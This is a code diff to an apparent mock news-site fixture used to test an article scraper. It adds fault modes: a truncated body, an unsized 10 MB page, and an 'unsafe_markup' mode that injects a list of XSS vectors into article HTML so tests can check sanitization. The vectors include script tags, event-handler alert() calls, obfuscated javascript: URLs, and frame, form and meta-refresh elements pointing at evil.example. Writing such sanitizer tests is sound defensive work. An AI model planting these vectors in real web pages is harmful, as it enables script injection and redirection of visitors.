@@ -44,6 +44,10 @@ SWITCHABLE_PATHS = {
     "garbage": "/ho-tro-doan-vien-bi-anh-huong-boi-bao-199915.html",
     "huge": "/tong-ket-phong-trao-thi-dua-lao-dong-gioi-199916.html",
     "offsite_links": "",  # every union listing's first page and every generated article page
+    # Generated articles picked when the site is built: `site.fault_paths[name]` (also in fault_urls()).
+    "truncated_body": "",
+    "unsafe_markup": "",  # its target gets every variant; every generated article page gets the common ones
+    "huge_unsized": "",
 }
 FAULTS = frozenset(SWITCHABLE_PATHS)
 OFFSITE_LINKS = (
@@ -52,6 +56,9 @@ OFFSITE_LINKS = (
     "http://laodongthudo-vn.example.net/hoat-dong-cong-doan-199922.html",
 )
 HUGE_BYTES = 10 * 1024 * 1024
+# Every script, handler and dangerous URL of the unsafe_markup fault carries this marker, so that a test can
+# assert that none of them survived anywhere in a stored article.
+XSS_MARKER = "xss-"
 
 ROBOTS_TXT = "User-agent: *\nDisallow: /search\n"
 PIXEL_GIF = (
@@ -170,11 +177,13 @@ class Site:
         self.faults: set[str] = set()
         self.slow_seconds = 5.0
         self.rate_limit_hits = 1  # 429s before the rate-limited URL answers
+        self.retry_after = "2"  # the 429's Retry-After value (seconds or an HTTP date)
         self.lock = threading.RLock()
         self.records: dict[int, ArticleRecord] = {}
         self.by_path: dict[str, ArticleRecord] = {}
         self.lists: dict[str, list[ArticleRecord]] = {s: [] for s in SECTIONS}
         self.nfd_ids: set[int] = set()
+        self.fault_paths: dict[str, str] = {k: v for k, v in SWITCHABLE_PATHS.items() if v}
         self._pos: dict[int, int] = {}
         self._pos_version = -1
         self.version = 0
@@ -236,6 +245,10 @@ class Site:
         for idx in (4, 22):
             if idx < len(union_generated):
                 self.nfd_ids.add(union_generated[idx].id)
+        # Faults added later live on generated articles, so that adding one leaves listings and ids alone.
+        for idx, name in ((1, "truncated_body"), (2, "unsafe_markup"), (3, "huge_unsized")):
+            if idx < len(union_generated):
+                self.fault_paths[name] = union_generated[idx].path
 
     def _fixed(self, fa: FixedArticle, kind: str) -> ArticleRecord:
         return ArticleRecord(fa.id, fa.section, fa.title, fa.published, fa.kicker, kind=kind, sapo_override=fa.sapo)
@@ -342,7 +355,7 @@ class Site:
             "off_section": OFF_SECTION_PATH,
             "off_section_hard": OFF_SECTION_HARD_PATH,
         }
-        return fixed | {k: v for k, v in SWITCHABLE_PATHS.items() if v}
+        return fixed | self.fault_paths
 
     def last_page(self, section: str) -> int:
         n = len(self.lists[section])
@@ -496,6 +509,8 @@ class Site:
             href = OFFSITE_LINKS[rec.id % len(OFFSITE_LINKS)]
             linked = f'{R.esc(first[:cut])} <a href="{href}">{R.esc(first[cut + 1 :])}</a>'
             paras[0] = ("html", f'<p style="text-align: justify;">{linked}</p>')
+        if "unsafe_markup" in self.faults and rec.kind == "article":
+            paras = _unsafe_markup(paras, full=rec.path == self.fault_paths.get("unsafe_markup"))
         figures = [
             R.Figure(image_src(editor, rec.published, f"{rec.id}-{i + 1}.jpg"), alt_text(rec.title), rec.title, caption)
             for i, caption in enumerate(comp.captions)
@@ -598,7 +613,7 @@ class Site:
                 return Response(200, b"body{font-family:Arial}", "text/css")
             return Response(200, PIXEL_GIF, "image/gif")
         if path == RATE_LIMIT_PATH and "rate_limit" in self.faults and hit <= self.rate_limit_hits:
-            return Response(429, _error_page(429, "Too Many Requests"), headers={"Retry-After": "2"})
+            return Response(429, _error_page(429, "Too Many Requests"), headers={"Retry-After": self.retry_after})
         if path == "/":
             return Response(200, R.render_listing(self._home_view()).encode())
         listing = self._parse_listing_path(path)
@@ -646,6 +661,10 @@ class Site:
             return Response(200, random.Random(rec.id).randbytes(6000))
         if path == SWITCHABLE_PATHS["huge"] and "huge" in faults:
             return _huge(page.encode())
+        if path == self.fault_paths.get("huge_unsized") and "huge_unsized" in faults:
+            return _huge(page.encode(), sized=False)
+        if path == self.fault_paths.get("truncated_body") and "truncated_body" in faults:
+            return Response(200, _cut_in_body(page, self.content(rec).comp.paragraphs).encode())
         return Response(200, page.encode())
 
     def _parse_listing_path(self, path: str) -> tuple[str, int] | None:
@@ -714,8 +733,73 @@ def _tag_page(path: str) -> str:
     return R.render_listing(view)
 
 
-def _huge(page: bytes) -> Response:
-    """About 10 MB: the page with a giant inline block before </body>, streamed in chunks."""
+def _cut_in_body(page: str, paragraphs: Iterable[str]) -> str:
+    """The page cut in the middle of its middle paragraph: the CMS died while writing the article."""
+    texts = list(paragraphs)
+    middle = R.esc(texts[len(texts) // 2])
+    at = page.index(middle) + len(middle) // 2
+    return page[:at]
+
+
+def _unsafe_markup(paras: list[R.Block], full: bool) -> list[R.Block]:
+    """Paragraphs with scripts, styles, frames, event handlers and script URLs mixed in; the text is kept.
+
+    The common set goes on every generated page; `full` adds the rarer vectors (obfuscated schemes,
+    svg/object/embed/form/base/meta, mutation-XSS nesting). Every payload carries XSS_MARKER.
+    """
+    out = list(paras)
+    m = XSS_MARKER
+    evil = f"https://evil.example/{m}"
+    pixel = "/stores/news_dataimages/pixel.gif"
+
+    def on(event: str, name: str) -> str:
+        return f' {event}="' + f"alert('{m}{name}')" + '"'
+
+    def text(i: int) -> str | None:
+        block = out[i] if i < len(out) else None
+        return block[1] if isinstance(block, tuple) and block[0] == "p" else None
+
+    def halves(t: str) -> tuple[str, str]:
+        cut = t.find(" ", len(t) // 2)
+        return (t, "") if cut < 0 else (t[:cut], t[cut + 1 :])
+
+    def link(i: int, href: str, extra: str = "", lead: str = "") -> None:
+        if (t := text(i)) is None:
+            return
+        a, b = halves(t)
+        inner = f' <a href="{href}"{extra}>{R.esc(b)}</a>' if b else ""
+        out[i] = ("html", f'<p style="text-align: justify;">{lead}{R.esc(a)}{inner}</p>')
+
+    if (t := text(1)) is not None:
+        out[1] = ("html", f'<p style="text-align: justify;"{on("onclick", "onclick")}>{R.esc(t)}</p>')
+    link(2, f"javascript:alert('{m}link')", lead=f'<img src="{pixel}"{on("onerror", "onerror")}>')
+    blocks: list[R.Block] = [
+        ("html", f'<script type="text/javascript">window.tracker = "{m}script";</script>'),
+        ("html", f"<style>.{m}style {{ color: red; }}</style>"),
+        ("html", f'<iframe src="{evil}frame" width="1" height="1"{on("onload", "iframe")}></iframe>'),
+    ]
+    if full:
+        link(3, f" JaVaScRiPt:alert('{m}case')", on("onmouseover", "mouseover"))
+        link(4, f"jav&#x09;ascript:alert('{m}tab')")
+        link(5, f"vbscript:msgbox('{m}vb')")
+        link(6, f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}data")
+        mxss = f"<img src=x{on('onerror', 'mxss')}>"
+        blocks += [
+            ("html", f'<SCRIPT SRC="{evil}upper.js"></SCRIPT>'),
+            ("html", f'<svg{on("onload", "svg")}><circle r="1"></circle></svg>'),
+            ("html", f'<object data="{evil}object.swf"></object><embed src="{evil}embed.swf">'),
+            ("html", f'<form action="{evil}form"><input name="q"><button>OK</button></form>'),
+            ("html", f'<base href="{evil}base/"><meta http-equiv="refresh" content="0;url={evil}refresh">'),
+            ("html", f"<math><mtext><table><mglyph><style>{mxss}</style></mglyph></table></mtext></math>"),
+            ("html", f"""<div style="background:url(javascript:alert('{m}css'))"{on("onmouseenter", "in")}></div>"""),
+            ("html", f"""<a href="javascript:alert('{m}empty')"><img src="{pixel}"{on("onload", "onload")}></a>"""),
+        ]
+    return out[:1] + blocks + out[1:]
+
+
+def _huge(page: bytes, sized: bool = True) -> Response:
+    """About 10 MB: the page with a giant inline block before </body>, streamed in chunks; without
+    `sized`, no Content-Length (the end of the body is the end of the connection)."""
     tail = b"</body>\n</html>\n"
     head = page[: page.rindex(b"</body>")]
     filler = b"<!-- " + b"x" * 65_000 + b" -->\n"
@@ -727,7 +811,7 @@ def _huge(page: bytes) -> Response:
             yield filler
         yield tail
 
-    return Response(200, chunks(), length=len(head) + n * len(filler) + len(tail))
+    return Response(200, chunks(), length=len(head) + n * len(filler) + len(tail) if sized else None)
 
 
 def build_site(n_articles: int = 120, seed: int = 1, faults: Iterable[str] = (), past_last: str = "empty") -> Site:
